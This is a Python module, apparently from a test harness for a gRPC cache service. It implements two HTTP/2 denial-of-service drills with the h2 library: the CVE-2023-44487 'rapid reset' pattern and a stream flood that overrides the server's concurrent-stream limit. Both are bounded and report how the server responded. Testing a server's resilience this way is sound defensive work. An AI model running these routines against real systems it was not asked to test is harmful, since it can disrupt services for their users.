"""HTTP/2 abuse spoken directly with PyPI's `h2` (no gRPC client in between).

A gRPC client library never does these things, which is why the drills need a raw
HTTP/2 peer:

- `rapid_reset`: on one connection, open a stream (HEADERS of a gRPC call, no body) and
  cancel it at once (RST_STREAM CANCEL), over and over: the "rapid reset" pattern of
  CVE-2023-44487, which makes a server set up and tear down calls at the attacker's pace
  while no stream is ever open for long.
- `stream_flood`: on one connection, open many streams (HEADERS without END_STREAM) and
  keep them open, ignoring the server's SETTINGS_MAX_CONCURRENT_STREAMS.

Both are bounded in count and in time, read whatever the server sends (so its SETTINGS
are acknowledged and its PINGs answered, as a real attacker's HTTP/2 stack would), and
report what came back: streams the server refused (RST_STREAM REFUSED_STREAM or
ENHANCE_YOUR_CALM), whether a GOAWAY arrived, and whether the server closed the socket.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections import Counter
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
from h2.settings import SettingCodes

__all__ = ["H2Outcome", "rapid_reset", "stream_flood"]

GET_PATH = "/cachegate.v1.CacheService/Get"
PIPELINE_PATH = "/cachegate.v1.CacheService/Pipeline"


@dataclass
class H2Outcome:
    """What one attacking connection saw."""

    streams: int = 0  # streams opened (HEADERS sent)
    seconds: float = 0.0
    goaway: str | None = None  # the GOAWAY's error code name, if one arrived
    goaway_after: int | None = None  # streams opened when it arrived
    closed_by_server: bool = False
    send_stalls: int = 0  # writes that waited > 1 s: the server stopped reading us
    resets: Counter[str] = field(default_factory=Counter)  # RST_STREAM received, by code
    server_max_streams: int | None = None  # its SETTINGS_MAX_CONCURRENT_STREAMS

    def text(self) -> str:
        resets = " ".join(f"{k}={v}" for k, v in sorted(self.resets.items())) or "-"
        goaway = f"{self.goaway} after {self.goaway_after} streams" if self.goaway else "none"
        return (
            f"streams={self.streams} in {self.seconds:.2f}s "
            f"({self.streams / max(self.seconds, 1e-9):.0f}/s); server "
            f"MAX_CONCURRENT_STREAMS={self.server_max_streams}; resets from server: {resets}; "
            f"GOAWAY: {goaway}; closed by server: {self.closed_by_server}; "
            f"send stalls: {self.send_stalls}"
        )


class _Peer:
    """One client connection: an h2 state machine over a blocking socket."""

    def __init__(self, host: str, port: int, outcome: H2Outcome) -> None:
        self.outcome = outcome
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(1.0)
        self.authority = f"{host}:{port}"
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.conn.initiate_connection()
        self.flush()
        self.read(wait=0.5)  # the server's SETTINGS, acknowledged by h2 (sent on next flush)

    @property
    def dead(self) -> bool:
        return self.outcome.goaway is not None or self.outcome.closed_by_server

    def headers(self, path: str) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", self.authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if not data:
            return
        started = time.monotonic()
        try:
            self.sock.sendall(data)
        except TimeoutError:
            self.outcome.send_stalls += 1
        except OSError:
            self.outcome.closed_by_server = True
        if time.monotonic() - started > 1.0:
            self.outcome.send_stalls += 1

    def read(self, wait: float = 0.0) -> None:
        """Take in what the server sent (up to `wait` seconds for the first bytes)."""
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    self.outcome.closed_by_server = True
                    return
                self._events(data)
                self.sock.settimeout(0.0001)
        except (TimeoutError, BlockingIOError):
            return
        except OSError:
            self.outcome.closed_by_server = True
        finally:
            self.sock.settimeout(1.0)

    def _events(self, data: bytes) -> None:
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.outcome.closed_by_server = True
            return
        for event in events:
            if isinstance(event, h2.events.StreamReset):
                self.outcome.resets[_code_name(event.error_code)] += 1
            elif isinstance(event, h2.events.ConnectionTerminated):
                if self.outcome.goaway is None:
                    self.outcome.goaway = _code_name(event.error_code)
                    self.outcome.goaway_after = self.outcome.streams
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                changed = event.changed_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS)
                if changed is not None:
                    self.outcome.server_max_streams = changed.new_value

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def _code_name(code: object) -> str:
    return getattr(code, "name", str(code))


def rapid_reset(
    host: str,
    port: int,
    *,
    max_streams: int,
    max_seconds: float,
    per_write: int = 50,
    path: str = GET_PATH,
) -> H2Outcome:
    """Open and at once reset streams on one connection, `per_write` to a write, until
    `max_streams` or `max_seconds`, or until the server sends GOAWAY or closes."""
    outcome = H2Outcome()
    peer = _Peer(host, port, outcome)
    started = time.monotonic()
    end = started + max_seconds
    try:
        while outcome.streams < max_streams and time.monotonic() < end and not peer.dead:
            for _ in range(min(per_write, max_streams - outcome.streams)):
                stream_id = peer.conn.get_next_available_stream_id()
                peer.conn.send_headers(stream_id, peer.headers(path), end_stream=False)
                peer.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                outcome.streams += 1
            peer.flush()
            peer.read()
    except h2.exceptions.ProtocolError:
        outcome.closed_by_server = outcome.closed_by_server or peer.dead
    finally:
        outcome.seconds = time.monotonic() - started
        peer.read(wait=0.3)  # a GOAWAY that is on its way
        peer.close()
    return outcome


def stream_flood(
    host: str,
    port: int,
    *,
    max_streams: int,
    max_seconds: float,
    hold: float = 1.0,
    path: str = PIPELINE_PATH,
) -> H2Outcome:
    """Open `max_streams` streams (HEADERS, no END_STREAM) on one connection as fast as
    possible, ignoring the server's concurrent-stream limit, and hold them for `hold`
    seconds before closing the connection. Bounded by `max_seconds` too."""
    outcome = H2Outcome()
    peer = _Peer(host, port, outcome)
    # An attacker ignores SETTINGS_MAX_CONCURRENT_STREAMS: tell h2 the limit is huge.
    peer.conn.remote_settings[SettingCodes.MAX_CONCURRENT_STREAMS] = 2**31 - 1
    peer.conn.remote_settings.acknowledge()
    started = time.monotonic()
    end = started + max_seconds
    try:
        while outcome.streams < max_streams and time.monotonic() < end and not peer.dead:
            for _ in range(min(50, max_streams - outcome.streams)):
                stream_id = peer.conn.get_next_available_stream_id()
                peer.conn.send_headers(stream_id, peer.headers(path), end_stream=False)
                outcome.streams += 1
            peer.flush()
            peer.read()
        hold_until = min(time.monotonic() + hold, end)
        while time.monotonic() < hold_until and not peer.dead:
            peer.read(wait=0.1)
            peer.flush()  # PING and SETTINGS acknowledgements
    except h2.exceptions.ProtocolError:
        pass
    finally:
        outcome.seconds = time.monotonic() - started
        peer.read(wait=0.3)
        peer.close()
    return outcome
